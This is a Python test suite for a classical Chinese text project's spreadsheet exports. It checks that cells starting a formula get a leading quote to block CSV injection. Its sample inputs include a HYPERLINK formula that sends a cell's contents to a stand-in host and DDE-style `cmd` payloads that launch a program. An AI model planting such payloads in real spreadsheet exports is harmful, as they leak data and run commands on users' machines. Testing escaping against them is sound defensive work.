"""CSV and TSV files a spreadsheet program opens (the hit list, the collation table): a cell
that starts with =, +, -, @, a tab or a carriage return is written with a leading ' (OWASP's
advice against CSV injection), so that it shows as text instead of running as a formula."""
import csv
import io
from types import SimpleNamespace

from api.hitlists import COLUMNS, hit_list_chunks
from collation.exports import CSV_FIELDS, to_csv
from config.spreadsheets import spreadsheet_cell

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"射")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
           "\t=1+1", "\r=1+1"]


def test_each_formula_start_gets_a_quote_and_nothing_else_changes():
    assert [spreadsheet_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    for kept in ["射=侯", "大射之儀", "", "'=1", "　大射", "射＝侯", " ", "http://x/?q=1", 12, -3, None]:
        assert spreadsheet_cell(kept) == kept


def test_a_formula_behind_spaces_or_in_full_width_forms_gets_a_quote_too():
    """A formula after leading spaces (a program that trims cells
    starts it there) or in full-width forms (read as ASCII by a spreadsheet set up for
    Chinese or Japanese) was written as it was."""
    hidden = [" =1+1", "  +1", "\u3000=HYPERLINK(\"http://x.example\")", "\n=1", "\u00a0@SUM(1)", "＝1+1",
              "＋1", "－2+3", "＠SUM(1)", "\u3000＝1+1", "\t＝1"]
    assert [spreadsheet_cell(v) for v in hidden] == ["'" + v for v in hidden]


def _rows(kind, rows):
    body = b"".join(hit_list_chunks(kind, rows)).decode("utf-8")
    dialect = "excel" if kind == "csv" else "excel-tab"
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"), newline=""), dialect=dialect))


def test_hit_list_cells_that_start_a_formula_are_escaped():
    row = ("禮書綱目", "卷十", 2, HOSTILE[0], "經文", HOSTILE[2], HOSTILE[3], HOSTILE[1], "http://h/works/x/", "李善")
    for kind in ("csv", "tsv"):
        assert _rows(kind, [row]) == [list(COLUMNS), [
            "禮書綱目", "卷十", "2", "'" + HOSTILE[0], "經文", "'" + HOSTILE[2], "'" + HOSTILE[3], "'" + HOSTILE[1],
            "http://h/works/x/", "李善"]], kind
    tab = ("禮書綱目", "卷十", 3, "\t=1+1", "注", "\r=2", "射", "", "u", "")
    assert _rows("csv", [tab])[1] == ["禮書綱目", "卷十", "3", "'\t=1+1", "注", "'\r=2", "射", "", "u", ""]


def _collation(reading: str, lemma: str, title: str):
    reading = SimpleNamespace(witness="KR1d0086-WYG", text=reading, cls="character", gaiji=False, note=False,
                              section=False, corrected=False)
    variant = SimpleNamespace(piece=3, kind="text", start=0, end=1, lemma=lemma, readings=[reading])
    return SimpleNamespace(sections=[SimpleNamespace(section=SimpleNamespace(position=26, title=title),
                                                     variants=[variant])])


def test_collation_csv_has_a_mark_and_escapes_formulas():
    body = to_csv(_collation("=1+2", "-射", "@侯"))
    assert body.startswith("\ufeffsection,section_name,")
    assert list(csv.reader(io.StringIO(body[1:], newline=""))) == [
        CSV_FIELDS, ["26", "'@侯", "3", "text", "0", "1", "'-射", "KR1d0086-WYG", "'=1+2", "character", "0", "0", "0", "0",
                     "", ""]]
    assert list(csv.reader(io.StringIO(to_csv(_collation("射", "侯", "張侯"))[1:], newline="")))[1] == [
        "26", "張侯", "3", "text", "0", "1", "侯", "KR1d0086-WYG", "射", "character", "0", "0", "0", "0", "", ""]
